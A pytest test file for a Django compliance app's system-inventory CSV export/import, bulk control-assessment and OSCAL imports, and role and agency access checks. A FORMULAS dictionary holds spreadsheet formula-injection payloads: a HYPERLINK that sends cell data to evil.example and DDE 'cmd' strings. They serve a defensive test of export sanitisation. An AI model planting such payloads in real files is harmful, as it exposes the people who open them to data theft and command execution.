"""The system inventory as CSV (import and export) and control assessments in bulk (CSV and
OSCAL assessment results), through the services, the commands and the API.

FTA: alice (ISSO of FTA-WEB), carol (compliance officer), audrey (auditor), adam (admin).
OTA: bob, who must neither read nor change FTA's inventory or assessments.
"""

import copy
import csv
import io
import json
from datetime import UTC, date, datetime

import pytest
from django.core.management import CommandError, call_command

from accounts.models import Membership, Role
from accounts.services import membership_grant
from compliance.models import Baseline, ControlAssessment, Framework, InformationSystem
from compliance.services import (
    assessments_file_import,
    framework_file_import,
    systems_export_csv,
    systems_file_import,
)
from core.errors import InvalidInput, NotPermitted
from core.time import parse_instant

from .support.factories import UserFactory

NOW = datetime(2025, 9, 1, 12, tzinfo=UTC)
PCI = "PCI DSS"


def upload(text: str, name: str = "file.csv") -> io.BytesIO:
    f = io.BytesIO(text.encode())
    f.name = name
    return f


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def core_baseline(db):
    pci = Framework.objects.get(name=PCI, agency=None)
    baseline = Baseline.objects.create(framework=pci, name="CORE", title="Core requirements")
    baseline.controls.set(pci.controls.filter(identifier__startswith="10."))
    return baseline


@pytest.fixture
def dave(agency_a):
    """A second ISSO of FTA, assigned to no system yet."""
    user = UserFactory(username="dave")
    membership_grant(user=user, agency=agency_a, role=Role.ISSO)
    return user


@pytest.fixture
def inventory(web_system, hr_system, alice, core_baseline):
    web_system.high_value_asset = True
    web_system.baseline = core_baseline
    web_system.ato_status = "authorized"
    web_system.ato_date = date(2024, 5, 1)
    web_system.ato_expires = date(2027, 4, 30)
    web_system.system_owner = "Store owner"
    web_system.authorizing_official = "CIO, FTA"
    web_system.host_patterns = ["web-*.store.example.gov", "pay-?.store.example.gov"]
    web_system.k8s_clusters = ["prod-east"]
    web_system.k8s_namespaces = ["store", "payments"]
    web_system.image_repositories = ["registry.example.gov/store/"]
    web_system.save()
    return web_system


# --- systems: export and import ------------------------------------------------------------


def test_export_writes_every_field(inventory, carol, agency_a, ctx):
    rows = rows_of(systems_export_csv(ctx=ctx(carol, agency_a)))
    assert [r["acronym"] for r in rows] == ["FTA-HR", "FTA-WEB"]
    web = rows[1]
    assert web == {
        "acronym": "FTA-WEB",
        "name": "Public web store",
        "component": "",
        "confidentiality": "moderate",
        "integrity": "moderate",
        "availability": "low",
        "high_value_asset": "yes",
        "baseline_framework": PCI,
        "baseline_version": "4.0",
        "baseline": "CORE",
        "ato_status": "authorized",
        "ato_date": "2024-05-01",
        "ato_expires": "2027-04-30",
        "system_owner": "Store owner",
        "authorizing_official": "CIO, FTA",
        "issos": "alice",
        "host_patterns": "web-*.store.example.gov;pay-?.store.example.gov",
        "k8s_clusters": "prod-east",
        "k8s_namespaces": "store;payments",
        "image_repositories": "registry.example.gov/store/",
    }


def test_export_then_import_changes_nothing(inventory, carol, agency_a, ctx):
    fta = ctx(carol, agency_a)
    exported = systems_export_csv(ctx=fta)
    before = list(InformationSystem.objects.order_by("pk").values())
    result = systems_file_import(source=upload(exported), ctx=fta)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)
    assert list(InformationSystem.objects.order_by("pk").values()) == before
    assert systems_export_csv(ctx=fta) == exported


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "component": "+cmd|' /C calc'!A0",
    "system_owner": "-2+3",
    "authorizing_official": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_export_neutralises_cells_that_would_start_a_formula(inventory, carol, agency_a, ctx):
    for field, value in FORMULAS.items():
        setattr(inventory, field, value)
    inventory.host_patterns = ["=1+1", "web-*.store.example.gov"]
    inventory.k8s_clusters = ["\tprod-east"]
    inventory.k8s_namespaces = ["\rstore"]
    inventory.image_repositories = ["'=already quoted"]
    inventory.save()
    exported = systems_export_csv(ctx=ctx(carol, agency_a))
    rows = list(csv.DictReader(io.StringIO(exported, newline="")))  # a cell holds a CR
    web = rows[1]
    for field, value in FORMULAS.items():
        assert web[field] == "'" + value, field
    assert web["host_patterns"] == "'=1+1;web-*.store.example.gov"
    assert web["k8s_clusters"] == "'\tprod-east"
    assert web["k8s_namespaces"] == "'\rstore"
    assert web["image_repositories"] == "''=already quoted"
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


def test_an_export_with_formula_cells_imports_back_unchanged(inventory, carol, agency_a, ctx):
    fta = ctx(carol, agency_a)
    for field, value in FORMULAS.items():
        setattr(inventory, field, value)
    inventory.host_patterns = ["=1+1", "-web-*"]
    inventory.image_repositories = ["'=already quoted"]
    inventory.save()
    exported = systems_export_csv(ctx=fta)
    before = list(InformationSystem.objects.order_by("pk").values())
    result = systems_file_import(source=upload(exported), ctx=fta)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)
    assert list(InformationSystem.objects.order_by("pk").values()) == before
    assert systems_export_csv(ctx=fta) == exported


@pytest.mark.parametrize(
    "value", ["", "'", "''", "=", "'=", "''-1", "a=b", "'s-Hertogenbosch", "@x", "\t", "+"]
)
def test_csv_cells_read_back_as_written(value):
    from compliance.tabular import csv_cell, csv_uncell

    assert csv_uncell(csv_cell(value)) == value
    assert not csv_cell(value).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_quote_before_a_formula_character_is_read_as_the_spreadsheets(carol, agency_a, ctx):
    text = "acronym,name,confidentiality,integrity,availability,system_owner\n"
    text += "FTA-Q,'=Quoted,low,low,low,'Brien\n"
    systems_file_import(source=upload(text), ctx=ctx(carol, agency_a))
    system = InformationSystem.objects.get(acronym="FTA-Q")
    assert (system.name, system.system_owner) == ("=Quoted", "'Brien")


def test_import_creates_updates_and_assigns_isso(inventory, carol, dave, agency_a, ctx):
    fta = ctx(carol, agency_a)
    rows = rows_of(systems_export_csv(ctx=fta))
    rows[1]["name"] = "Public web store (renamed)"
    rows[1]["issos"] = "alice;dave"
    rows.append(
        dict.fromkeys(rows[0], "")
        | {
            "acronym": "FTA-NEW",
            "name": "New system",
            "confidentiality": "High",
            "integrity": "low",
            "availability": "LOW",
            "issos": "dave",
            "k8s_namespaces": " a ; b ;",
        }
    )
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)

    result = systems_file_import(source=upload(out.getvalue()), ctx=fta)

    assert (result.created, result.updated, result.unchanged) == (1, 1, 1)
    new = InformationSystem.objects.get(acronym="FTA-NEW")
    assert (new.agency, new.confidentiality, new.k8s_namespaces) == (agency_a, 3, ["a", "b"])
    assert new.high_water_mark == 3
    assert InformationSystem.objects.get(acronym="FTA-WEB").name == "Public web store (renamed)"
    daves = Membership.objects.get(user=dave, role=Role.ISSO)
    assert set(daves.systems.values_list("acronym", flat=True)) == {"FTA-WEB", "FTA-NEW"}


def test_a_file_with_fewer_columns_leaves_the_other_fields(inventory, carol, agency_a, ctx):
    text = "acronym,name,confidentiality,integrity,availability\nFTA-WEB,Store,high,high,high\n"
    result = systems_file_import(source=upload(text), ctx=ctx(carol, agency_a))
    assert result.updated == 1
    web = InformationSystem.objects.get(acronym="FTA-WEB")
    assert (web.name, web.high_water_mark, web.k8s_clusters) == ("Store", 3, ["prod-east"])
    assert web.baseline is not None and web.ato_status == "authorized"
    assert Membership.objects.get(user__username="alice").systems.filter(pk=web.pk).exists()


HEAD = "acronym,name,confidentiality,integrity,availability,issos,ato_date,ato_expires,baseline\n"
GOOD = "FTA-OK,Fine,low,low,low,,,,\n"


@pytest.mark.parametrize(
    ("row", "message"),
    [
        ("FTA-X,X,severe,low,low,,,,", "line 3: confidentiality: 'severe' is not low, moderate or"),
        ("FTA-X,X,low,low,low,bob,,,", "line 3: issos: bob: not an ISSO of FTA"),
        ("FTA-X,X,low,low,low,carol,,,", "line 3: issos: carol: not an ISSO of FTA"),
        (
            "FTA-X,X,low,low,low,,2025-05-01,2025-04-01,",
            "line 3: ato_expires: The authorization cannot expire before it is granted.",
        ),
        ("FTA-X,X,low,low,low,,01/05/2025,,", "line 3: ato_date: '01/05/2025' is not a date"),
        ("FTA-OK,Again,low,low,low,,,,", "line 3: acronym: 'FTA-OK' already on line 2"),
        ("FTA-X,X,low,low,low,,,,NOPE", "line 3: baseline: no baseline 'NOPE'"),
        (",X,low,low,low,,,,", "line 3: acronym: empty"),
    ],
    ids=["impact", "other-agency", "not-isso", "expiry", "date", "duplicate", "baseline", "empty"],
)
def test_bad_inventory_names_the_line_and_stores_nothing(
    db, carol, alice, bob, agency_a, ctx, row, message
):
    before = InformationSystem.objects.count()
    with pytest.raises(InvalidInput) as caught:
        systems_file_import(source=upload(HEAD + GOOD + row + "\n"), ctx=ctx(carol, agency_a))
    assert str(caught.value).startswith(message)
    assert caught.value.extra["line"] == 3
    assert InformationSystem.objects.count() == before
    assert not InformationSystem.objects.filter(acronym="FTA-OK").exists()


def test_inventory_needs_its_required_columns(db, carol, agency_a, ctx):
    with pytest.raises(InvalidInput, match="line 1: missing required column"):
        systems_file_import(source=upload("acronym,name\nX,Y\n"), ctx=ctx(carol, agency_a))


@pytest.mark.parametrize("persona", ["alice", "audrey", "olivia"])
def test_only_compliance_officers_and_admins_import_systems(
    db, persona, alice, audrey, olivia, agency_a, ctx
):
    user = {"alice": alice, "audrey": audrey, "olivia": olivia}[persona]
    with pytest.raises(NotPermitted):
        systems_file_import(source=upload(HEAD + GOOD), ctx=ctx(user, agency_a))
    assert not InformationSystem.objects.filter(acronym="FTA-OK").exists()


def test_export_shows_what_the_reader_may_see(
    inventory, hr_system, alice, audrey, agency_a, ctx, audit_grant
):
    """As the inventory pages: an auditor reads the systems of the incidents granted to it, an
    ISSO their own systems."""
    assert rows_of(systems_export_csv(ctx=ctx(audrey, agency_a))) == []
    audit_grant(audrey, hr_system)
    assert [r["acronym"] for r in rows_of(systems_export_csv(ctx=ctx(audrey, agency_a)))] == [
        "FTA-HR"
    ]
    assert [r["acronym"] for r in rows_of(systems_export_csv(ctx=ctx(alice, agency_a)))] == [
        "FTA-WEB"
    ]


def test_commands_export_and_import(inventory, agency_a, tmp_path):
    path = tmp_path / "fta.csv"
    call_command("export_systems", "--agency", "FTA", "--out", str(path))
    assert rows_of(path.read_text())[1]["issos"] == "alice"
    out = io.StringIO()
    call_command("import_systems", str(path), "--agency", "fta", stdout=out)
    assert "0 systems created, 0 updated, 2 unchanged" in out.getvalue()
    stdout = io.StringIO()
    call_command("export_systems", "--agency", "FTA", stdout=stdout)
    assert stdout.getvalue() == path.read_text()
    path.write_text(HEAD + "FTA-X,X,low,low,nope,,,,\n")
    with pytest.raises(CommandError, match=r"line 2: availability: 'nope'"):
        call_command("import_systems", str(path), "--agency", "FTA")


# --- systems through the API ----------------------------------------------------------------


def test_api_import_answers_counts(api, carol, agency_a, web_system):
    response = api(carol).post(
        "/api/v1/systems/import", {"file": upload(HEAD + GOOD)}, format="multipart"
    )
    assert response.status_code == 201, response.json()
    assert response.json() == {"kind": "systems", "created": 1, "updated": 0, "unchanged": 0}
    again = api(carol).post(
        "/api/v1/systems/import", {"file": upload(HEAD + GOOD)}, format="multipart"
    )
    assert (again.status_code, again.json()["unchanged"]) == (200, 1)


def test_api_import_error_names_the_line(api, carol, agency_a):
    response = api(carol).post(
        "/api/v1/systems/import",
        {"file": upload(HEAD + GOOD + "FTA-X,X,low,low,bad,,,,\n")},
        format="multipart",
    )
    assert response.status_code == 400
    assert response.json()["line"] == 3
    assert response.json()["detail"].startswith("line 3: availability: 'bad'")
    assert not InformationSystem.objects.filter(acronym="FTA-OK").exists()


def test_api_import_refuses_isso_and_auditor(api, alice, audrey, agency_a):
    for user in (alice, audrey):
        response = api(user).post(
            "/api/v1/systems/import", {"file": upload(HEAD + GOOD)}, format="multipart"
        )
        assert response.status_code == 403
    assert not InformationSystem.objects.filter(acronym="FTA-OK").exists()


def test_bob_imports_into_his_own_agency_only(api, bob, agency_b, inventory):
    text = "acronym,name,confidentiality,integrity,availability\nFTA-WEB,Hijack,low,low,low\n"
    response = api(bob).post("/api/v1/systems/import", {"file": upload(text)}, format="multipart")
    assert response.status_code == 201
    web = InformationSystem.objects.get(agency=inventory.agency, acronym="FTA-WEB")
    assert web.name == "Public web store"  # FTA's system untouched
    assert InformationSystem.objects.get(agency=agency_b, acronym="FTA-WEB").name == "Hijack"


def test_api_export_is_the_agencys_csv(api, carol, bob, inventory, b_system, agency_a):
    response = api(carol).get("/api/v1/systems/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="fta-systems.csv"' in response["Content-Disposition"]
    assert [r["acronym"] for r in rows_of(response.content.decode())] == ["FTA-HR", "FTA-WEB"]

    theirs = api(bob).get("/api/v1/systems/export.csv").content.decode()
    assert [r["acronym"] for r in rows_of(theirs)] == ["OTA-WEB"]
    assert "FTA" not in theirs and "alice" not in theirs


def test_api_export_query_count_does_not_grow(
    api, carol, inventory, agency_a, django_assert_num_queries
):
    from .support.factories import SystemFactory

    client = api(carol)
    client.get("/api/v1/systems/export.csv")  # warm the session
    with django_assert_num_queries(4):  # user's memberships (2), systems, ISSO memberships
        client.get("/api/v1/systems/export.csv")
    for i in range(5):
        SystemFactory(agency=agency_a, acronym=f"FTA-X{i}")
    with django_assert_num_queries(4):
        response = client.get("/api/v1/systems/export.csv")
    assert len(rows_of(response.content.decode())) == 7


def test_import_path_is_not_read_as_a_system_id(api, carol, agency_a):
    assert api(carol).get("/api/v1/systems/import").status_code == 405


# --- assessments in bulk: CSV ---------------------------------------------------------------

A_HEAD = (
    "system,framework,control,status,implementation_status,assessed_at,assessor,method,finding\n"
)


def a_row(**values) -> str:
    row = {
        "system": "FTA-WEB",
        "framework": PCI,
        "control": "10.2.1",
        "status": "satisfied",
        "implementation_status": "implemented",
        "assessed_at": "2025-06-01T09:00:00-04:00",
        "assessor": "",
        "method": "examine",
        "finding": "Logs reviewed",
    }
    row.update(values)
    return ",".join(row.values()) + "\n"


def test_csv_assessments_are_recorded(web_system, carol, alice, agency_a, ctx):
    text = (
        A_HEAD
        + a_row()
        + a_row(
            control="10.2.2",
            status="other_than_satisfied",
            assessed_at="2025-06-02 10:30 America/New_York",
            assessor="alice",
            method="test",
            finding='"Missing origin, fix due"',
        )
    )
    result = assessments_file_import(source=upload(text), ctx=ctx(carol, agency_a), now=NOW)
    assert (result.created, result.unchanged) == (2, 0)
    first, second = ControlAssessment.objects.order_by("assessed_at")
    assert first.assessed_at == datetime(2025, 6, 1, 13, tzinfo=UTC)
    assert (first.control.identifier, first.status, first.assessor, first.recorded_by) == (
        "10.2.1",
        "satisfied",
        carol,
        carol,
    )
    assert second.assessed_at == datetime(2025, 6, 2, 14, 30, tzinfo=UTC)
    assert (second.assessor, second.method, second.finding) == (
        alice,
        "test",
        "Missing origin, fix due",
    )
    assert first.recorded_at == NOW


def test_reimporting_assessments_records_nothing_twice(web_system, carol, agency_a, ctx):
    text = A_HEAD + a_row() + a_row(control="10.2.2")
    assessments_file_import(source=upload(text), ctx=ctx(carol, agency_a), now=NOW)
    again = assessments_file_import(source=upload(text), ctx=ctx(carol, agency_a), now=NOW)
    assert (again.created, again.unchanged) == (0, 2)
    corrected = A_HEAD + a_row(status="other_than_satisfied")
    assert assessments_file_import(
        source=upload(corrected), ctx=ctx(carol, agency_a), now=NOW
    ).created
    assert ControlAssessment.objects.count() == 3


@pytest.mark.parametrize(
    ("row", "message"),
    [
        (a_row(assessed_at="2025-10-01T09:00:00Z"), "line 3: Assessed at cannot be in the future"),
        (a_row(control="10.9.9"), "line 3: control: no control '10.9.9' in PCI DSS (4.0)"),
        (a_row(), "line 3: the same system, control and time as line 2"),
        (a_row(assessed_at="2025-06-01T09:00:00"), "line 3: assessed_at: needs a UTC offset"),
        (a_row(assessed_at="2025-06-01 09:00 Mars/Olympus"), "line 3: assessed_at: unknown time"),
        (a_row(status="great"), "line 3: Status: 'great' is not one of"),
        (a_row(method="guess"), "line 3: Method: 'guess' is not one of"),
        (a_row(assessor="bob"), "line 3: assessor: 'bob' holds no role in the agency"),
        (a_row(system="OTA-WEB"), "line 3: system: no system 'OTA-WEB' in FTA"),
        (a_row(framework="Nonesuch"), "line 3: framework: no framework 'Nonesuch'"),
    ],
    ids=[
        "future",
        "unknown-control",
        "duplicate",
        "naive",
        "zone",
        "status",
        "method",
        "assessor",
        "other-agency-system",
        "framework",
    ],
)
def test_bad_assessment_rows_name_the_line_and_record_nothing(
    web_system, b_system, carol, bob, agency_a, ctx, row, message
):
    text = A_HEAD + a_row(control="10.3.2") + row
    if "same system" in message:
        text = A_HEAD + a_row() + row
    with pytest.raises(InvalidInput) as caught:
        assessments_file_import(source=upload(text), ctx=ctx(carol, agency_a), now=NOW)
    assert str(caught.value).startswith(message)
    assert caught.value.extra["line"] == 3
    assert not ControlAssessment.objects.exists()


def test_an_isso_records_for_their_own_systems_only(web_system, hr_system, alice, agency_a, ctx):
    text = A_HEAD + a_row() + a_row(system="FTA-HR")
    with pytest.raises(NotPermitted, match=r"^line 3: Only a compliance officer"):
        assessments_file_import(source=upload(text), ctx=ctx(alice, agency_a), now=NOW)
    assert not ControlAssessment.objects.exists()
    result = assessments_file_import(
        source=upload(A_HEAD + a_row()), ctx=ctx(alice, agency_a), now=NOW
    )
    assert result.created == 1


def test_another_agencys_licensed_control_cannot_be_assessed(
    web_system, b_system, carol, bob, agency_a, agency_b, ctx
):
    framework_file_import(
        source=upload("framework,version,identifier,title\nFTA Secret Standard,1,S-1,Secret\n"),
        ctx=ctx(carol, agency_a),
    )
    text = A_HEAD + a_row(system="OTA-WEB", framework="FTA Secret Standard", control="S-1")
    with pytest.raises(InvalidInput, match="line 2: framework: no framework 'FTA Secret"):
        assessments_file_import(source=upload(text), ctx=ctx(bob, agency_b), now=NOW)


def test_parse_instant_accepts_offsets_and_zone_names():
    assert parse_instant("2025-03-01T09:00:00Z") == datetime(2025, 3, 1, 9, tzinfo=UTC)
    assert parse_instant("2025-07-01 09:00 America/Los_Angeles") == datetime(
        2025, 7, 1, 16, tzinfo=UTC
    )
    assert parse_instant("2025-03-01T09:00:00") is None
    with pytest.raises(ValueError, match="both an offset and a zone"):
        parse_instant("2025-03-01T09:00:00+01:00 Europe/Paris")


def test_parse_instant_refuses_wall_times_a_zone_skips_or_repeats():
    """An assessment time named in a zone is read DST-safely: 02:30 did not exist in New York
    on 8 March 2026 and 01:30 happened twice on 1 November; a guess would move the record."""
    with pytest.raises(ValueError, match="does not exist in America/New_York"):
        parse_instant("2026-03-08 02:30 America/New_York")
    with pytest.raises(ValueError, match="occurs twice in America/New_York"):
        parse_instant("2026-11-01 01:30 America/New_York")
    assert parse_instant("2026-11-01 00:30 America/New_York") == datetime(
        2026, 11, 1, 4, 30, tzinfo=UTC
    )


# --- assessments in bulk: OSCAL assessment results ------------------------------------------

OBSERVATION = "8b5c3d4e-3f4a-4b62-9cad-1e2f3a4b5c6d"
AR = {
    "assessment-results": {
        "uuid": "6f3a1b2c-1d2e-4f50-9a8b-7c6d5e4f3a2b",
        "metadata": {
            "title": "FTA-WEB annual assessment",
            "last-modified": "2025-06-02T00:00:00Z",
            "version": "1",
            "oscal-version": "1.1.2",
            "props": [{"name": "system-acronym", "value": "FTA-WEB"}],
        },
        "import-ap": {"href": "#ap"},
        "results": [
            {
                "uuid": "7a4b2c3d-2e3f-4a51-8b9c-0d1e2f3a4b5c",
                "title": "Annual",
                "description": "Annual assessment",
                "start": "2025-06-01T12:00:00Z",
                "end": "2025-06-03T12:00:00Z",
                "reviewed-controls": {"control-selections": [{"include-all": {}}]},
                "observations": [
                    {
                        "uuid": OBSERVATION,
                        "description": "Looked at the logs",
                        "methods": ["EXAMINE", "TEST"],
                        "collected": "2025-06-01T15:30:00-04:00",
                    }
                ],
                "findings": [
                    {
                        "uuid": "9c6d4e5f-4a5b-4c73-8dbe-2f3a4b5c6d7e",
                        "title": "Audit events",
                        "description": "Events are logged.",
                        "target": {
                            "type": "objective-id",
                            "target-id": "au-2_obj",
                            "status": {"state": "satisfied"},
                            "implementation-status": {"state": "implemented"},
                        },
                        "related-observations": [{"observation-uuid": OBSERVATION}],
                    },
                    {
                        "uuid": "0d7e5f6a-5b6c-4d84-9ecf-3a4b5c6d7e8f",
                        "title": "Audit content",
                        "description": "Origin missing.",
                        "target": {
                            "type": "statement-id",
                            "target-id": "au-3_smt.a",
                            "status": {"state": "not-satisfied"},
                            "implementation-status": {"state": "partial"},
                        },
                    },
                ],
            }
        ],
    }
}


@pytest.fixture
def nist(db):
    from compliance.models import Control

    framework = Framework.objects.create(
        name="NIST Special Publication 800-53 Revision 5.1.1", version="5.1.1+u4"
    )
    for i, identifier in enumerate(["au-2", "au-3"]):
        Control.objects.create(
            framework=framework,
            identifier=identifier,
            label=identifier.upper(),
            title=identifier,
            sort_key=str(i),
        )
    return framework


def ar_file(document) -> io.BytesIO:
    return upload(json.dumps(document), "results.json")


def test_oscal_findings_become_assessments(nist, web_system, carol, agency_a, ctx):
    result = assessments_file_import(source=ar_file(AR), ctx=ctx(carol, agency_a), now=NOW)
    assert (result.created, result.unchanged) == (2, 0)
    au2, au3 = ControlAssessment.objects.order_by("control__identifier")
    assert (au2.system, au2.control.identifier) == (web_system, "au-2")
    assert (au2.status, au2.implementation_status, au2.method) == (
        "satisfied",
        "implemented",
        "examine",
    )
    assert au2.assessed_at == datetime(2025, 6, 1, 19, 30, tzinfo=UTC)  # observation collected
    assert au2.finding == "Audit events\n\nEvents are logged."
    assert (au3.status, au3.implementation_status, au3.method) == (
        "other_than_satisfied",
        "partial",
        "",
    )
    assert au3.assessed_at == datetime(2025, 6, 3, 12, tzinfo=UTC)  # the result's end
    again = assessments_file_import(source=ar_file(AR), ctx=ctx(carol, agency_a), now=NOW)
    assert (again.created, again.unchanged) == (0, 2)


def results_body(document):
    return document["assessment-results"]["results"][0]


@pytest.mark.parametrize(
    ("break_it", "message"),
    [
        (
            lambda d: results_body(d)["findings"][1]["target"].pop("target-id"),
            "assessment-results.results[0].findings[1].target: missing 'target-id'",
        ),
        (
            lambda d: results_body(d)["findings"][1]["target"].update({"target-id": "zz-9_obj"}),
            "assessment-results.results[0].findings[1]: control: no control 'zz-9'",
        ),
        (
            lambda d: d["assessment-results"]["metadata"].pop("props"),
            "assessment-results.results[0]: no system",
        ),
        (
            lambda d: results_body(d)["findings"][0].update(
                {"related-observations": [{"observation-uuid": OBSERVATION.replace("8", "7")}]}
            ),
            "assessment-results.results[0].findings[0].related-observations: names an observation",
        ),
        (
            lambda d: results_body(d).update(end="2025-12-01T00:00:00Z"),
            "assessment-results.results[0].findings[1]: Assessed at cannot be in the future",
        ),
    ],
    ids=["no-target-id", "unknown-control", "no-system", "observation", "future"],
)
def test_bad_oscal_results_name_the_path_and_record_nothing(
    nist, web_system, carol, agency_a, ctx, break_it, message
):
    document = copy.deepcopy(AR)
    break_it(document)
    with pytest.raises(InvalidInput) as caught:
        assessments_file_import(source=ar_file(document), ctx=ctx(carol, agency_a), now=NOW)
    assert str(caught.value).startswith(message)
    assert "path" in caught.value.extra
    assert not ControlAssessment.objects.exists()


def test_oscal_system_may_be_given_with_the_import(nist, web_system, carol, agency_a, ctx):
    document = copy.deepcopy(AR)
    document["assessment-results"]["metadata"].pop("props")
    result = assessments_file_import(
        source=ar_file(document), ctx=ctx(carol, agency_a), system="FTA-WEB", now=NOW
    )
    assert result.created == 2


def test_import_assessments_command(nist, web_system, agency_a, carol, tmp_path):
    path = tmp_path / "results.json"
    path.write_text(json.dumps(AR))
    out = io.StringIO()
    call_command("import_assessments", str(path), "--agency", "FTA", "--user", "carol", stdout=out)
    assert "2 assessments created, 0 updated, 0 unchanged" in out.getvalue()
    assert set(ControlAssessment.objects.values_list("recorded_by__username", flat=True)) == {
        "carol"
    }
    csv_path = tmp_path / "a.csv"
    csv_path.write_text(A_HEAD + a_row(assessed_at="2025-06-01T09:00:00"))
    with pytest.raises(CommandError, match="line 2: assessed_at: needs a UTC offset"):
        call_command("import_assessments", str(csv_path), "--agency", "FTA")


def test_api_assessment_import(api, nist, web_system, carol, bob, agency_a):
    response = api(carol).post(
        "/api/v1/assessments/import", {"file": ar_file(AR)}, format="multipart"
    )
    assert response.status_code == 201, response.json()
    assert response.json()["created"] == 2
    # bob (OTA) cannot record against FTA's system: not found in his agency.
    refused = api(bob).post(
        "/api/v1/assessments/import",
        {"file": upload(A_HEAD + a_row(assessed_at="2025-06-05T09:00:00Z"))},
        format="multipart",
    )
    assert refused.status_code == 400
    assert refused.json()["detail"] == "line 2: system: no system 'FTA-WEB' in OTA."
    assert ControlAssessment.objects.count() == 2


def test_api_framework_and_crosswalk_import(api, carol, bob, agency_a, alice):
    body = "framework,version,identifier,title\nFTA Standard,1,S-1,One\nFTA Standard,1,S-2,Two\n"
    response = api(carol).post(
        "/api/v1/frameworks/import", {"file": upload(body)}, format="multipart"
    )
    assert response.status_code == 201
    answer = response.json()
    assert (answer["created"], answer["framework"]["name"]) == (2, "FTA Standard")
    assert Framework.objects.get(name="FTA Standard").agency == agency_a
    walk = (
        "source_framework,source_control,target_framework,target_control,relationship\n"
        "FTA Standard,S-1,PCI DSS,10.2.1,related\n"
    )
    mapped = api(carol).post(
        "/api/v1/crosswalks/import", {"file": upload(walk)}, format="multipart"
    )
    assert (mapped.status_code, mapped.json()["created"]) == (201, 1)
    # bob sees no "FTA Standard": his crosswalk naming it is refused, nothing stored.
    theirs = api(bob).post("/api/v1/crosswalks/import", {"file": upload(walk)}, format="multipart")
    assert theirs.status_code == 400
    assert theirs.json()["detail"] == "line 2: no framework 'FTA Standard'."
    isso = api(alice).post("/api/v1/frameworks/import", {"file": upload(body)}, format="multipart")
    assert isso.status_code == 403


def test_api_import_needs_a_file(api, carol, agency_a):
    response = api(carol).post("/api/v1/frameworks/import", {}, format="multipart")
    assert response.status_code == 400
    assert "file" in response.json()


def test_an_agency_admin_imports_systems_and_frameworks(api, adam, agency_a):
    systems = api(adam).post(
        "/api/v1/systems/import", {"file": upload(HEAD + GOOD)}, format="multipart"
    )
    assert systems.status_code == 201
    body = "framework,version,identifier,title\nAdmin Standard,1,S-1,One\n"
    frameworks = api(adam).post(
        "/api/v1/frameworks/import", {"file": upload(body)}, format="multipart"
    )
    assert frameworks.status_code == 201
    assert Framework.objects.get(name="Admin Standard").agency == agency_a


def test_anonymous_callers_get_nothing(client, db):
    for url in ("/api/v1/systems/import", "/api/v1/frameworks/import"):
        assert client.post(url, {}).status_code in (401, 403)
    assert client.get("/api/v1/systems/export.csv").status_code in (401, 403)
